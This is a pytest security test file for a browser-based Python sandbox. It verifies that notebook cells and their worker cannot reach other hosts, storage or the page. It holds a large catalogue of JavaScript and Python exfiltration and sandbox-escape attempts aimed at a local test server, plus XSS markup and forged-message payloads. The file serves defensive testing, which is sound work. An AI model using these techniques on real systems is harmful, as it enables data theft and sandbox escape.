"""Whatever a cell tries, it reaches this site's own files at most, no other host, nothing that is kept, and no page.

Two things hold it: the policy of the frame, which the worker inherits, and that the worker gives up every way to the network before a
cell runs. Each is tried alone, and so is that the attacks arrive where neither is.
"""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from bookkit.pages import policy
from tests.bookkit.verification.opened import Part, Site, policy_of, site_of, until, workers

CHAPTER = "sources.html"  # the one that loads least
ANSWER = (
    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: *\r\nContent-Type: text/javascript\r\n"
    b"Content-Length: 0\r\nConnection: close\r\n\r\n"
)
OPEN = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'"
# Each tries to reach an address at the other server; "blob" makes an address of a script
ATTACKS = {
    "fetch": "await fetch(to)",
    "fetch-blind": "await fetch(to, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })",
    "preflight": "await fetch(to, { headers: { 'x-secret': '1' } })",
    "xhr": "const asked = new XMLHttpRequest(); asked.open('GET', to, false); asked.send()",
    "websocket": "await new Promise((resolve) => { const socket = new WebSocket(to.replace('http', 'ws')); socket.onerror = resolve; })",
    "websocketstream": "await new WebSocketStream(to.replace('http', 'ws')).opened",
    "eventsource": """const source = new EventSource(to);
        await new Promise((resolve) => { source.onerror = () => { source.close(); resolve(); }; })""",
    "import": "await import(to)",
    "import-json": "await import(to, { with: { type: 'json' } })",
    "import-blob": "await import(blob(`import ${JSON.stringify(to)}`))",
    "import-data": "await import(`data:text/javascript,import ${JSON.stringify(to)}`)",
    "importscripts": "importScripts(to)",
    "font": "const font = new FontFace('x', `url(${to})`); self.fonts.add(font); await font.load()",
    "redirect": "await fetch(`${self.origin}/away?to=${encodeURIComponent(to)}`)",
    "redirect-import": "await import(`${self.origin}/away?to=${encodeURIComponent(to)}`)",
    "webtransport": "await new WebTransport(to.replace('http', 'https')).ready",
    "beacon": "navigator.sendBeacon(to, 'secret')",
    "stream": "await WebAssembly.compileStreaming(fetch(to))",
    "request": "await fetch(new Request(to))",
    "prototype": """for (let owner = self; owner; owner = Object.getPrototypeOf(owner)) {
        const own = Object.getOwnPropertyDescriptor(owner, 'fetch');
        if (own) await (own.value ?? own.get).call(self, to);
    }""",
    "prototypes": "await Reflect.get(WorkerGlobalScope.prototype, 'fetch', self).call(self, to)",
    "constructor": "await (() => {}).constructor('to', 'return fetch(to)')(to)",
    "timer": "await new Promise((resolve) => { setTimeout(`fetch(${JSON.stringify(to)})`, 0); setTimeout(resolve, 200); })",
    "nested": """const made = new Worker(blob(`fetch(${JSON.stringify(to)}).finally(() => postMessage(1))`));
        await new Promise((resolve) => { made.onmessage = made.onerror = resolve; })""",
    "nested-module": """const made = new Worker(blob(`import(${JSON.stringify(to)}).finally(() => postMessage(1))`), { type: 'module' });
        await new Promise((resolve) => { made.onmessage = made.onerror = resolve; })""",
    "nested-foreign": "const made = new Worker(to); await new Promise((resolve) => { made.onmessage = made.onerror = resolve; })",
    # A file of the site has no policy: it could fetch from anywhere
    "nested-own": """const made = new Worker(`${self.origin}/attack.js?to=${encodeURIComponent(to)}`);
        await new Promise((resolve) => { made.onmessage = made.onerror = resolve; })""",
    "shared": "new SharedWorker(to)",
    "location": "self.location.href = to; self.location = to; self.location.assign?.(to)",
    "open": "self.open(to)",
    "client": "await self.clients.openWindow(to)",
    "notification": "new Notification('x', { icon: to, image: to })",
    "service": "await navigator.serviceWorker.register('/attack.js')",
    "peer": "const peer = new RTCPeerConnection({ iceServers: [{ urls: to.replace('http://', 'stun:') }] }); peer.createDataChannel('x')",
}
TRY = """async ([attack, to]) => {{
  const blob = (text) => URL.createObjectURL(new Blob([text], {{ type: "text/javascript" }}));
  const late = new Promise((resolve) => {{ setTimeout(resolve, 1500, "no answer"); }});
  const tried = (async () => {{ {body} }})().then(() => "done", (error) => String(error));
  return Promise.race([tried, late]);
}}"""
WORKER_ALONE = """async (address) => {
  const frame = document.createElement("iframe");
  const loaded = new Promise((resolve) => { frame.onload = resolve; });
  frame.src = address;
  document.body.append(frame);
  await loaded;
  const { port1, port2 } = new MessageChannel();
  globalThis.held = port1;
  frame.contentWindow.postMessage({ port: port2 }, location.origin, [port2]);
}"""
# Those that Chromium offers to a worker without https and without questions
ARRIVING = {
    *("fetch", "fetch-blind", "preflight", "xhr", "websocket", "eventsource", "import", "import-json", "import-blob", "font"),
    *("redirect", "redirect-import", "stream", "request", "constructor", "nested", "nested-module", "nested-own", "timer", "prototype"),
}
# From Python: `to` is the other server's address, `port` its number
CELL = """
import js, json
from pyodide.ffi import to_js
to, port, said = {address!r}, {port}, {{}}
def urllib_():
    import urllib.request
    urllib.request.urlopen(to)
def http_():
    import http.client
    http.client.HTTPConnection("127.0.0.1", port, timeout=1).request("GET", "/py-http")
def socket_():
    import socket
    socket.create_connection(("127.0.0.1", port), timeout=1).send(b"GET /py-socket")
def datagram_():
    import socket
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", port))
def asyncio_():
    import asyncio
    asyncio.run(asyncio.open_connection("127.0.0.1", port))
def open_url_():
    from pyodide.http import open_url
    open_url(to)
def pyfetch_():
    from pyodide.http import pyfetch
    pyfetch(to).send(None)
def js_fetch_():
    js.fetch(to)
def js_self_():
    js.self.fetch(to)
def js_global_():
    js.globalThis["fetch"](to)
def js_prototype_():
    js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch(to)
def js_descriptor_():
    js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "fetch").value(to)
def js_xhr_():
    asked = js.XMLHttpRequest.new()
    asked.open("GET", to, False)
    asked.send()
def js_socket_():
    js.WebSocket.new(to.replace("http", "ws"))
def js_events_():
    js.EventSource.new(to)
def js_scripts_():
    js.importScripts(to)
def js_worker_():
    js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([f"fetch('{{to}}')"]))))
def js_worker_of_the_site_():
    js.Worker.new(f"{{js.origin}}/_static/verify-worker.js")
def js_beacon_():
    js.navigator.sendBeacon(to)
def js_transport_():
    js.WebTransport.new(to.replace("http", "https"))
def js_caches_():
    js.caches.open("bookkit-packs")
def js_database_():
    js.indexedDB.open("x")
def js_storage_():
    js.navigator.storage.getDirectory()
def js_buckets_():
    js.navigator.storageBuckets.open("x")
def js_service_():
    js.navigator.serviceWorker.register("/attack.js")
def js_files_():
    js.webkitRequestFileSystem(0, 1)
def js_channel_():
    js.BroadcastChannel.new("x").postMessage("secret")
def js_closes_():
    js.close()
def js_page_():
    js.document.body
def js_window_():
    js.window.location
def js_parent_():
    js.parent.document
def js_local_():
    js.localStorage.setItem("x", "y")
def js_cookie_():
    js.document.cookie = "x=y"
def js_address_():
    js.history.pushState(None, "", "#x")
def js_function_():
    js.Function.new("return fetch('" + to + "')")()
def js_constructor_():
    js.Object.constructor.constructor("return fetch('" + to + "')")()
def js_eval_():
    js.eval("fetch('" + to + "')")
def run_js_():
    from pyodide.code import run_js
    run_js("fetch('" + to + "')")
def run_js_import_():
    from pyodide.code import run_js
    run_js("import('" + to + "')")
def package_():
    import pyodide_js
    pyodide_js.loadPackage(to + ".whl").then
    raise RuntimeError("a promise that fails")
def module_():
    js._createPyodideModule(to_js({{"locateFile": None}}))
    raise RuntimeError("a promise that fails")
def idb_():
    import pyodide_js
    pyodide_js.FS.mkdirTree("/kept")
    pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, to_js({{}}), "/kept")
    pyodide_js.FS.syncfs(False, lambda *_: None)
    raise RuntimeError("nobody waits for it, and no database is found later")
attacks = [(name, attack) for name, attack in globals().items() if name.endswith("_") and not name.startswith("_")]
for name, attack in attacks:
    try:
        attack()
        said[name] = ""
    except BaseException as error:
        said[name] = f"{{type(error).__name__}}: {{error}}"[:200]
raise RuntimeError("tried " + json.dumps(said))
"""
# What a worker may have kept for itself when the network was given up
KEPT = """async () => ({
  caches: await caches.keys(),
  packs: (await (await caches.open("bookkit-packs")).keys()).length,
  databases: (await indexedDB.databases()).length,
  files: await Array.fromAsync((await navigator.storage.getDirectory()).keys()),
  buckets: await navigator.storageBuckets?.keys() ?? [],
  local: [localStorage.length, sessionStorage.length, document.cookie, history.length, location.pathname + location.search + location.hash],
})"""
MARKUP = "<img src=x onerror=struck=1><script>struck=1</script>"
# A cell takes the worker's port and answers in its place
FORGE = """(forged) => {
  const send = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (report) {
    MessagePort.prototype.postMessage = send;
    for (const one of forged) send.call(this, one);
  };
}"""
# A frame that is nothing but forged
FRAME_JS = """const forged = JSON.parse(decodeURIComponent(location.search.slice(1)));
addEventListener("message", ({ data: { port } }) => {
  port.onmessage = ({ data }) => { for (const one of data.run ? forged : [{ stage: "answer", answer: true }]) port.postMessage(one); };
});
"""
FORGED: dict[str, list[Any]] = {
    "a result": [
        {
            "stage": "answer",
            "answer": {
                "failure": None,
                "ran": 1,
                "seconds": 1,
                "compared": 3,
                "numbers": [[MARKUP, MARKUP, MARKUP], ["number-x", MARKUP, MARKUP]],
                "rest": [[MARKUP, MARKUP, MARKUP]],
                "charts": {MARKUP: {}, "content": {"mark": MARKUP}},
                "versions": [MARKUP],
            },
        }
    ],
    "a failure": [{"stage": "answer", "answer": {"failure": {"cell": 0, "said": MARKUP, "report": MARKUP}, "ran": 0}}],
    "an end": [{"stage": "failed", "message": MARKUP}],
    "progress": [{"stage": "cell", "cell": MARKUP}, {"stage": "load", "done": MARKUP, "total": MARKUP}],
    "a wrong shape": [None, MARKUP, 1, [], {"stage": "answer", "answer": MARKUP}],
    "nothing": [{"stage": "answer"}],
}
CHART = {
    "data": {"values": [{"x": 1}]},
    "mark": {"type": "point", "size": 900},
    "encoding": {"x": {"field": "x", "type": "quantitative"}, "href": {"value": "javascript:struck=1"}},
}
DRAW = """async ([address, specification]) => {
  const { draw } = await import(address);
  const place = document.createElement("div");
  document.body.append(place);
  try { await draw(place, specification, {}); } catch (error) { return String(error); }
  return place.innerHTML;
}"""


class Other:
    """A server of somebody else, which notes what comes."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.datagrams.bind(("127.0.0.1", self.port))
        for listen in (self._listen, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    @property
    def names(self) -> set[str]:
        """What was asked for."""
        return {line.split(" ")[1].lstrip("/").partition(".")[0] for line in self.seen if " /" in line}

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        # A connection counts, whatever it is for
        at = len(self.seen)
        self.seen.append("a connection")
        with connection:
            connection.settimeout(5)
            try:
                self.seen[at] = connection.recv(10_000).decode("latin-1").partition("\r\n")[0] or "a connection"
                connection.sendall(ANSWER)
            except OSError:
                return

    def _receive(self) -> None:
        while True:
            try:
                self.datagrams.recv(10_000)
            except OSError:
                return
            self.seen.append("a datagram")

    def close(self) -> None:
        self.server.close()
        self.datagrams.close()


@pytest.fixture
def other() -> Iterator[Other]:
    server = Other()
    yield server
    server.close()


def _redirecting(handler: Any, _served: Any) -> None:
    handler.send_response(302)
    handler.send_header("Location", re.sub(r".*to=", "", handler.path).replace("%3A", ":").replace("%2F", "/"))
    handler.send_header("Content-Length", "0")
    handler.end_headers()


ATTACK_JS = b"fetch(new URL(self.location).searchParams.get('to')).finally(() => postMessage(1));"


@pytest.fixture(scope="module")
def served(built: Path) -> Iterator[Site]:
    folder = built / "_build/html"
    frame = (folder / "_verify/frame.htm").read_text(encoding="utf-8")
    assert policy.of_frame() in frame
    without = re.sub(r'(http-equiv="Content-Security-Policy" content=)"[^"]*"', rf'\1"{OPEN}"', frame)
    forged = re.sub("src=[^ ]*", 'src="forged.js"', frame)
    more = {"/attack.js": ATTACK_JS, "/away": b"", "/_verify/without.html": without.encode()}
    more |= {"/_verify/forged.html": forged.encode(), "/_verify/forged.js": FRAME_JS.encode()}
    with site_of(folder, more) as site:
        site.faults["away"] = _redirecting
        yield site


@pytest.fixture
def tab(browser: Any) -> Iterator[Any]:
    """A page that notes what it complains of."""
    context = browser.new_context()
    yield _noting(context.new_page())
    context.close()


def _noting(page: Any) -> Any:
    page.violations = []
    page.on("console", lambda message: page.violations.append(message.text))
    return page


@pytest.fixture(scope="module")
def opened(browser: Any, served: Site) -> Iterator[Part]:
    """A chapter that was computed once."""
    context = browser.new_context()
    page = _noting(context.new_page())
    part = Part(page, f"{served.address}/{CHAPTER}")
    assert "failed" not in part.run(), part.said
    assert page.violations == []
    yield part
    context.close()


@contextmanager
def _alone(browser: Any, site: Site, frame: str) -> Iterator[Any]:
    """The worker in its frame before it gave anything up."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{site.address}/{CHAPTER}")
    page.evaluate(WORKER_ALONE, frame)
    until(lambda: workers(page), 10)
    yield page
    context.close()


def _try(worker: Any, to: str) -> dict[str, str]:
    """Every attack, and what came of it."""
    return {name: worker.evaluate(TRY.format(body=body), ["", to + name]) for name, body in ATTACKS.items()}


def test_without_a_policy_the_attacks_arrive(browser: Any, served: Site, other: Other) -> None:
    with _alone(browser, served, "/_verify/without.html") as page:
        said = _try(page.workers[0], other.address)
    assert other.names >= ARRIVING, {name: said[name] for name in ARRIVING - other.names}


def test_the_policy_of_the_frame_alone_stops_every_attack(browser: Any, served: Site, other: Other) -> None:
    with _alone(browser, served, "/_verify/frame.htm") as page:
        said = _try(page.workers[0], other.address)
        # Not for want of the means
        assert page.workers[0].evaluate("[typeof fetch, typeof WebSocket, typeof Worker, typeof caches]") == ["function"] * 3 + ["object"]
        # Nor from the frame itself
        frame = page.frames[1]
        for address in ("/_static/verify-worker.js", "/attack.js", other.address):
            assert frame.evaluate(
                """(address) => new Promise((resolve) => {
                  try { const made = new Worker(address); made.onerror = () => resolve("refused"); made.onmessage = () => resolve("runs"); }
                  catch { resolve("refused"); }
                  setTimeout(resolve, 1000, "runs");
                })""",
                address,
            ) == ("refused"), address
    assert other.seen == [], said


def test_a_cell_has_no_way_left(opened: Part, other: Other) -> None:
    kept = opened.page.evaluate(KEPT)
    assert kept["caches"] == ["bookkit-packs"]
    assert kept["packs"] > 5
    worker = opened.alive()
    said = _try(worker, other.address)
    opened.try_cell(CELL.format(address=other.address + "py", port=other.port))
    python = opened.page.locator(".verify-list pre").text_content()
    found = re.search(r"^RuntimeError: tried (\{.*\})$", python, re.MULTILINE)
    assert found, python
    tried = json.loads(found[1])
    assert len(tried) > 40
    assert all(tried.values()), tried
    assert other.seen == [], said
    # Nothing is kept for later, the packs are as they came, and the address tells nothing
    assert opened.page.evaluate(KEPT) == kept
    assert opened.page.evaluate("document.body.dataset.struck ?? typeof struck") == "undefined"


def test_nothing_that_stores_or_sends_is_left_in_the_worker(opened: Part) -> None:
    worker = opened.alive()
    left = worker.evaluate(
        """() => [...new Set((function* () {
          for (let owner = self; owner; owner = Object.getPrototypeOf(owner)) yield* Object.getOwnPropertyNames(owner);
          for (let owner = navigator; owner; owner = Object.getPrototypeOf(owner)) yield* Object.getOwnPropertyNames(owner);
        })())].filter((name) => /^[a-z]/.test(name) && (self[name] ?? navigator[name]) !== undefined)"""
    )
    said = worker.evaluate("""() => {
      try { fetch("/"); } catch (error) { return error.message; }
      return "";
    }""")
    assert "reaches no network" in said
    known = {
        *("name", "onmessage", "onmessageerror", "onrtctransform", "self", "location", "navigator", "performance", "trustedTypes"),
        "crypto",
        *("onerror", "onlanguagechange", "onrejectionhandled", "onunhandledrejection", "origin", "isSecureContext", "crossOriginIsolated"),
        *("scheduler", "atob", "btoa", "queueMicrotask", "reportError", "structuredClone", "createImageBitmap", "postMessage"),
        *("setInterval", "setTimeout", "clearInterval", "clearTimeout", "requestAnimationFrame", "cancelAnimationFrame"),
        *("addEventListener", "removeEventListener", "dispatchEvent", "when", "constructor", "globalThis"),
        *("parseFloat", "parseInt", "decodeURI", "decodeURIComponent", "encodeURI", "encodeURIComponent", "escape", "unescape", "eval"),
        *("isFinite", "isNaN", "console", "toString", "valueOf", "toLocaleString"),
        *("hasOwnProperty", "isPrototypeOf", "propertyIsEnumerable"),
        *("hardwareConcurrency", "deviceMemory", "appCodeName", "appName", "appVersion", "platform", "product", "userAgent", "language"),
        *("languages", "onLine"),
        # These throw
        *("fetch", "importScripts", "close"),
    }
    assert set(left) <= known, sorted(set(left) - known)


def _shows_text_alone(page: Any) -> None:
    assert page.locator("#verify :is(img, script)").count() == 0
    assert page.evaluate("typeof struck") == "undefined"
    assert not [said for said in page.violations if re.search("Security Policy|Trusted", said)]


@pytest.mark.parametrize("forged", FORGED, ids=list(FORGED))
def test_whatever_a_worker_says_is_shown_as_text_at_most(tab: Any, served: Site, forged: str) -> None:
    part = Part(tab, f"{served.address}/{CHAPTER}", f"_verify/forged.html?{quote(json.dumps(FORGED[forged]))}")
    part.run()
    assert MARKUP in part.said or "page is as it was." in part.said
    _shows_text_alone(tab)


def test_a_cell_that_takes_the_port_gains_nothing(opened: Part) -> None:
    opened.alive().evaluate(FORGE, FORGED["a result"])
    opened.run()
    try:
        assert MARKUP in opened.said
        _shows_text_alone(opened.page)
        assert opened.page.locator(".verify-list").text_content().count(MARKUP) > 3
    finally:
        # The real results come after the forged ones: the next test has a Python of its own
        opened.page.reload()
        opened.unfold()
        opened.run()


def test_a_chart_loads_nothing_and_leads_nowhere(opened: Part, other: Other) -> None:
    page = opened.page
    script = page.evaluate("new URL(document.querySelector('#verify').dataset.draw, document.baseURI).href")
    for changes in (
        {},
        {"data": {"url": f"{other.address}rows.json"}},
        {"mark": {"type": "image", "url": f"{other.address}a.png", "width": 9, "height": 9}},
        {"mark": {"type": "text", "text": MARKUP, "fontSize": 30, "font": f"x;background:url({other.address})"}},
        {"mark": {"type": "point", "fill": f"url({other.address}a.svg#x)"}},
        {"transform": [{"calculate": "constructor.constructor('struck=1')()", "as": "y"}]},
    ):
        drawn = page.evaluate(DRAW, [script, {**CHART, **changes}])
        assert not re.search(r"<(a|img|script|iframe|foreignObject)\b|javascript:", drawn), (changes, drawn)
    assert page.evaluate("typeof struck") == "undefined"
    assert other.seen == []


def test_what_is_stopped_is_gone(opened: Part, other: Other) -> None:
    opened.alive()
    opened.set_cell(0, "while True: pass")
    opened.begin()
    opened.says("Computing: cell 1 of")
    opened.stop()
    assert "failed" in opened.end(2)
    assert opened.frames == 0
    until(lambda: not workers(opened.page), 10)
    assert opened.page.url.endswith(CHAPTER)


def test_pages_allow_what_they_did_and_a_frame_of_this_site(built: Path) -> None:
    site = built / "_build/html"
    script = f"'self' '{policy.integrity(policy.FIRST_SCRIPT)}'"
    rules = {
        "default-src": "'none'",
        "script-src": script,
        "style-src": "'unsafe-inline'",
        "img-src": "'self'",
        "font-src": "'self'",
        "connect-src": "'self'",
        "form-action": "'self'",
        "base-uri": "'none'",
        "require-trusted-types-for": "'script'",
    }
    claim = next((site / "claims").glob("*.html"))
    for page in (site / "check.html", site / "downloads.html", site / "glossary.html", claim):
        assert policy_of(page) == rules, page.name
    for name in (CHAPTER, "index.html", "verify.html"):
        assert policy_of(site / name) == {**rules, "frame-src": "'self'"}, name
    assert policy_of(site / "_verify/frame.htm") == {
        "default-src": "'none'",
        "script-src": "'self' blob: 'wasm-unsafe-eval'",
        "worker-src": "blob:",
        "connect-src": "'self'",
        "form-action": "'none'",
        "base-uri": "'none'",
    }
